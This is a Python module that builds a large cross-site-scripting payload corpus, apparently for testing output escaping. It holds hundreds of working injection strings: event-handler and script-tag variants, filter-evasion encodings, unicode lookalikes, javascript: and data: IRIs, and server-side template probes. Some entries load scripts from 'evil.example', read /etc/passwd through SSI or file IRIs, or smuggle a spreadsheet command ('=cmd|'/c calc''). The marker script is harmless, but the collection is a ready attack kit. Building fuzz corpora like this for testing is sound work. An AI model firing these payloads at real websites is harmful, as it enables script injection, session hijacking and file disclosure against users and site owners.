"""Texts that would run a script where they are not escaped: each kind that is known, by the hundred."""

from itertools import product

RUN = "document.title=/PWNED/.source;top.postMessage(/PWNED/.source,String.fromCharCode(42))"
"""What they run: without quotes, spaces and angle brackets, so that it fits anywhere."""
_HANDLERS = (
    ("img src=x", "onerror"), ("svg", "onload"), ("body", "onload"), ("body", "onpageshow"), ("iframe", "onload"), ("video><source", "onerror"), ("audio src=x", "onerror"),
    ("details open", "ontoggle"), ("input autofocus", "onfocus"), ("select autofocus", "onfocus"), ("textarea autofocus", "onfocus"), ("marquee", "onstart"), ("object data=x:", "onerror"),
    ("embed src=/static/app.css", "onload"), ("link rel=stylesheet href=/static/app.css", "onload"), ("style", "onload"), ("script src=/static/app.css", "onload"), ("button autofocus", "onfocus"), ("div tabindex=0 autofocus", "onfocus"),
    ("svg><animate attributeName=x dur=1s", "onbegin"), ("svg><set attributeName=x", "onbegin"), ("svg><image href=x", "onerror"), ("math><mtext><img src=x", "onerror"), ("p style=animation-name:x", "onanimationstart"),
    ("video poster=x controls autoplay src=data:,", "onerror"), ("img src=/static/app.css srcset=x", "onerror"), ("frameset", "onload"), ("dialog open", "onclose"), ("form><input type=image src=x", "onerror"), ("meter", "onmouseover"),
    ("a href=#", "onpointerenter"), ("body", "onhashchange"), ("body", "onscrollend"), ("video><track default src=x", "onerror"), ("x tabindex=1 autofocus", "onfocusin"), ("picture><source srcset=x><img src=x", "onerror"),
)  # fmt: skip
_AROUND = (
    ("<{tag} {on}={js}>", ""),
    ('"><{tag} {on}={js}>', ""),
    ("'><{tag} {on}='{js}'>", ""),
    ("</title><{tag}/{on}={js}//", ""),
)
_TAGS = tuple(start.format(tag=tag, on=on, js=RUN) for (tag, on), (start, _) in product(_HANDLERS, _AROUND))
_SCRIPTS = tuple(
    text.replace("JS", RUN)
    for text in (
        "<script>JS</script>", "<SCRIPT>JS</SCRIPT>", "<scr<script>ipt>JS</scr</script>ipt>", "<script/x>JS</script>", "<script\n>JS</script\n>", "<script\x00>JS</script>", "<script >JS</script foo='bar'>",
        "<script type=module>JS</script>", "<script type=text/javascript>JS</script>", "<script src=data:text/javascript,JS></script>", "<script src=//evil.example/x.js></script>", "<script nonce=>JS</script>", "<<script>JS//<</script>",
        "</script><script>JS</script>", "</script ><script>JS</script>", "</SCRIPT><script>JS</script>", "<!--<script>", "<!--<script>JS</script>-->", "--><script>JS</script>", "--!><script>JS</script>", "]]><script>JS</script>",
        "<![CDATA[<script>JS</script>]]>", "<?xml version='1.0'?><script>JS</script>", "</title><script>JS</script>", "</textarea><script>JS</script>", "</style><script>JS</script>", "</noscript><script>JS</script>", "</template><script>JS</script>",
        "</bdi></td></table><script>JS</script>", "</dd></dl></main></body></html><script>JS</script>", "</select><script>JS</script>", "<svg><script>JS</script></svg>", "<svg><script href=data:,JS />", "<svg><script xlink:href=data:,JS></script></svg>",
        "<math><script>JS</script></math>", "<xmp><script>JS</script></xmp>", "<plaintext><script>JS</script>", "<iframe srcdoc='<script>parent.JS</script>'>", "<iframe srcdoc=&lt;script&gt;JS&lt;/script&gt;>", "<iframe src=javascript:JS>",
        "<iframe src='data:text/html,<script>JS</script>'>", "<object data='data:text/html,<script>JS</script>'>", "<embed src='javascript:JS'>", "<embed src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"JS\"/>'>",
        "<form action=javascript:JS><button autofocus>x", "<form><button formaction=javascript:JS>x", "<a href=javascript:JS>x</a>", "<a href=' javascript:JS'>x</a>", "<a href='java\tscript:JS'>x</a>", "<a href='java\nscript:JS'>x</a>",
        "<a href='&#106;avascript:JS'>x</a>", "<a href='jAvAsCrIpT:JS'>x</a>", "<a href='javascript&colon;JS'>x</a>", "<a href='\x01javascript:JS'>x</a>", "<a href=data:text/html,JS>x</a>", "<a href='vbscript:JS'>x</a>", "<area href=javascript:JS>",
        "<svg><a xlink:href=javascript:JS><text y=9>x</text></a></svg>", "<math href=javascript:JS>x</math>", "<base href=javascript:/JS//>", "<base href=//evil.example/>", "<meta http-equiv=refresh content='0;javascript:JS'>",
        "<meta http-equiv=refresh content='0;url=data:text/html,<script>JS</script>'>", "<meta charset=utf-7>+ADw-script+AD4-JS+ADw-/script+AD4-", "+ADw-script+AD4-JS+ADw-/script+AD4-", "<link rel=import href=data:text/html,<script>JS</script>>",
        "<link rel=preload as=script href=x onload=JS>", "<style>@import'javascript:JS';</style>", "<style>*{background:url(javascript:JS)}</style>", "<style>*{-moz-binding:url(x)}</style>", "<p style=background:url(javascript:JS)>", "<p style='width:expression(JS)'>",
        "<p style='behavior:url(x)'>", "<xss style='animation:x' onanimationend=JS>", "<template shadowrootmode=open><script>JS</script></template>", "<noscript><p title='</noscript><img src=x onerror=JS>'>", "<noembed><img title='</noembed><img src=x onerror=JS>'>",
        "<noframes><img title='</noframes><img src=x onerror=JS>'>", "<svg></p><style><a id='</style><img src=x onerror=JS>'>", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=JS&gt;'>",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=JS>", "<listing>&lt;img src=x onerror=JS&gt;</listing>", "<svg><foreignObject><img src=x onerror=JS></foreignObject></svg>", "<svg><desc><img src=x onerror=JS></desc></svg>",
        "<svg><title><style><img src='</style><img src=x onerror=JS>'>", "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=x onerror=JS /></svg>#x'>", "<svg><handler ev:event=load>JS</handler></svg>",
        "<img src=x:x onerror&#61;JS>", "<img src=x onerror='&#100;ocument.title=1'>", "<img/src=x/onerror=JS>", "<img\tsrc=x\tonerror=JS>", "<img\x0csrc=x\x0conerror=JS>", "<img src='x'onerror='JS'>", "<img src=`x`onerror=JS>", '<img src="x""onerror="JS">', "<img '\"><script>JS</script>'>",
        "<img src=x onerror\x00=JS>", "<img src=x onerror =JS>", "<IMG SRC=X ONERROR=JS>", "<image src=x onerror=JS>", "<isindex type=image src=x onerror=JS>", "<input type=hidden accesskey=x onclick=JS>", "<x onclick=JS contenteditable>x",
    )
)  # fmt: skip
_INSIDE = tuple(
    text.replace("JS", RUN)
    for text in (
        '" onmouseover="JS', "' onmouseover='JS", '" autofocus onfocus="JS', "' autofocus onfocus='JS", '"onfocus=JS autofocus x="', "` onfocus=`JS", '" style="animation:x" onanimationstart="JS', '" accesskey=x onclick=JS "', '"/onerror="JS', '"><!--', "'><!--", "x onfocus=JS autofocus",
        '\\" onfocus=JS //', "\\'-JS-\\'", "'-JS-'", '"-JS-"', "';JS//", '";JS//', "\\';JS//", '\\";JS//', "*/JS/*", "`${JS}`", "${JS}", "#{JS}", "{{7*7}}", "{{JS}}", "{% raw %}{{ 7*7 }}{% endraw %}", "{{ self.__init__.__globals__ }}", "{{ ''.__class__.__mro__ }}",
        "{{constructor.constructor('JS')()}}", "{% include '/etc/passwd' %}", "{# #}", "<%= JS %>", "<?php JS ?>", "[[${JS}]]", "@{JS}", "#set($x=JS)", "*{JS}", "%{JS}", "{php}JS{/php}", "{{=<% %>=}}<%JS%>", "v-on:click=JS", "<div v-html=\"'<img src=x onerror=JS>'\">", "<div ng-app ng-csp><x ng-focus=JS autofocus>",
        "<div x-data x-init=JS>", "<div hx-on:load=JS hx-get=/ hx-trigger=load>", "\u2028JS\u2028", "\u2029JS//", '"}</script><script>JS</script>', '\\u003c/script\\u003e<script>JS</script>', '"},"@context":"javascript:JS', "</script\t><img src=x onerror=JS>", '\\"</script><svg onload=JS>',
        "<!--#exec cmd='x'-->", "<!--#include virtual='/etc/passwd'-->", "<esi:include src='http://evil.example/'/>", "\u202e>JS=rorrenO x=crs gmi<\u202c", "\u2066<script>JS</script>\u2069", "＜script＞JS＜/script＞", "‹script›JS‹/script›", "\ufe64script\ufe65JS\ufe64/script\ufe65", "<\u200bscript>JS</script>", "<ſcript>JS</ſcript>", "<ımg src=x onerror=JS>",
        "\u00bcscript\u00beJS\u00bc/script\u00be", "%3Cscript%3EJS%3C/script%3E", "%253Cscript%253EJS%253C/script%253E", "&lt;script&gt;JS&lt;/script&gt;", "&#60;script&#62;JS&#60;/script&#62;", "&#x3c;script&#x3e;JS&#x3c;/script&#x3e;", "&amp;lt;script&amp;gt;", "&ltscript&gtJS", "\\x3cscript\\x3eJS\\x3c/script\\x3e", "\\u003cscript\\u003eJS\\u003c/script\\u003e", "\\74script\\76JS",
        "[x](javascript:JS)", "![x](x onerror=JS)", "[x]: javascript:JS", "<javascript:JS>", "<http://x onmouseover=JS>", "[a](<javascript:JS>)", "http://x/'onmouseover='JS", "javascript:JS", "JaVaScRiPt:JS", " javascript:JS", "\tjavascript:JS", "javascript\t:JS", "java\r\nscript:JS", "\x01javascript:JS", "javascript://%0aJS", "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+JS//'>",
        "data:text/html,<script>JS</script>", "data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nUFdORUQnPC9zY3JpcHQ+", "data:image/svg+xml,<svg onload=JS>", "vbscript:JS", "view-source:javascript:JS", "blob:javascript:JS", "filesystem:javascript:JS", "//evil.example/x.js", "\\\\evil.example\\x.js", "expression(JS)", "url(javascript:JS)", "}*{background:red}body{", "</p><style>*{display:none}</style>",
        "=cmd|'/c calc'!A1", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>JS</x:script>", "<html xmlns='http://www.w3.org/1999/xhtml'><script>JS</script></html>", "\r\n\r\n<script>JS</script>", "%0d%0a%0d%0a<script>JS</script>", "a" * 200 + "<script>JS</script>", "<" * 50 + "script>JS</script>", "<img " + "x " * 200 + "onerror=JS src=x>",
    )
)  # fmt: skip
TEXTS = tuple(dict.fromkeys((*_SCRIPTS, *_INSIDE, *_TAGS)))
"""Payloads as texts."""
IRIS = tuple(
    text.replace("JS", RUN)
    for text in (
        "javascript:JS", "JAVASCRIPT:JS", "JaVaScRiPt:JS", "javascript://%0aJS", "javascript://example.org/%0aJS", "javascript:JS//http://example.org/", "javascript:void(JS)", "javascript:'<img/src=x>'".replace("<", "%3C").replace(">", "%3E"), "vbscript:JS", "livescript:JS", "mocha:JS",
        "data:text/html,%3Cscript%3EJS%3C/script%3E", "data:text/html;base64,PHNjcmlwdD5kb2N1bWVudC50aXRsZT0nUFdORUQnPC9zY3JpcHQ+", "data:image/svg+xml,%3Csvg%20onload=JS%3E", "data:application/xhtml+xml,x", "data:,x", "blob:http://example.org/x", "filesystem:http://example.org/x", "view-source:javascript:JS", "file:///etc/passwd",
        "jar:http://example.org!/x", "feed:javascript:JS", "about:blank", "intent://x#Intent;end", "ms-word:ofe|u|x".replace("|", "%7C"), "tel:1", "ws://example.org/", "http://example.org/'onmouseover='JS'", "http://example.org/?x=';JS//", "http://example.org/#';JS//", "https://example.org/&quot;onfocus=JS;autofocus=", "http://example.org/%22%3E%3Cscript%3EJS%3C/script%3E",
        "http://[::1]/'x", "http://user:pass@example.org/", "http:javascript:JS", "urn:x:'onmouseover='JS", "urn:javascript:JS", "mailto:a@example.org?subject='JS", "MAILTO:x@example.org&body=JS", "x-javascript:JS", "xjavascript:JS", "http-equiv:refresh", "HTTP://EXAMPLE.ORG/'x",
    )
)  # fmt: skip
"""Payloads that are IRIs."""
